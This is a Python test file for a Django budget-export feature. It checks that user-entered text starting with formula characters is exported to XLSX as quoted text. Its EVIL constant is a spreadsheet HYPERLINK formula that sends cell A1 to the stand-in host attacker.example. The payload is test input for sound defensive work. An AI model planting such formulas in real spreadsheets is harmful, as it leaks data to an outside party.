"""Formula injection (issue 13): text typed into a budget (a supplier, a description, a line's name)
that starts like a formula comes out of the budget XLSX as text; the workbook's own total stays a
formula."""

import datetime
import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from szansa.domain.projects import services

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Faktura")'


def test_formula_like_text_is_text_in_the_budget_xlsx(project, training, clerk, client_for, cast):
    training.name = "+Szkolenie-1"
    training.save()
    services.expenditure_record(
        actor=clerk,
        line=training,
        date=datetime.date(2019, 3, 1),
        document_number="@FV/1",
        supplier=EVIL,
        description="-opis",
        amount=Decimal("100.00"),
    )
    response = client_for(cast.audytor).get(reverse("projects:budget_export", args=[project.pk]))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    found = {}
    formulas = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in (EVIL, "+Szkolenie-1", "@FV/1", "-opis"):
                    found.setdefault(cell.value, []).append(cell)
                if cell.data_type == "f":
                    formulas.append(cell.value)
    assert set(found) == {EVIL, "+Szkolenie-1", "@FV/1", "-opis"}
    for cells in found.values():
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    # one expenditure of 100 zł: the sheet's own total is the only formula, =SUM over row 2
    assert formulas == ["=SUM(H2:H2)"]
